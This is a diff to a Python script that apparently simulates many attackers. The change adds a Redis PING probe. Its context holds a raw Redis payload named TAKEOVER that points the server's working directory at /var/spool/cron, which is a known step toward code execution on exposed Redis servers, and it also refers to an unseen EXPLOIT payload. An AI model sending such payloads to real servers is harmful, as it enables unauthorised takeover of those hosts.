@@ -47,6 +47,7 @@ REQUESTS = tuple(
     for n, path in enumerate(PATHS)
 )
 INFO = b"*1\r\n$4\r\nINFO\r\n"
+PING = b"*1\r\n$4\r\nPING\r\n"
 TAKEOVER = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"
 OPEN_AT_ONCE = 4_000
 HIT_SECONDS = 3.0
@@ -76,7 +77,7 @@ def plan(number: int, turn: int, ports: dict[str, int]) -> tuple[str, tuple[byte
             return "redis", (TAKEOVER,)
         return "http", (EXPLOIT,)
     if number % ATTACKERS == 5 and "redis" in ports:
-        return "redis", (INFO,)
+        return "redis", (INFO if number % 4 else PING,)
     return "http", (REQUESTS[turn % len(REQUESTS)],)
 
 
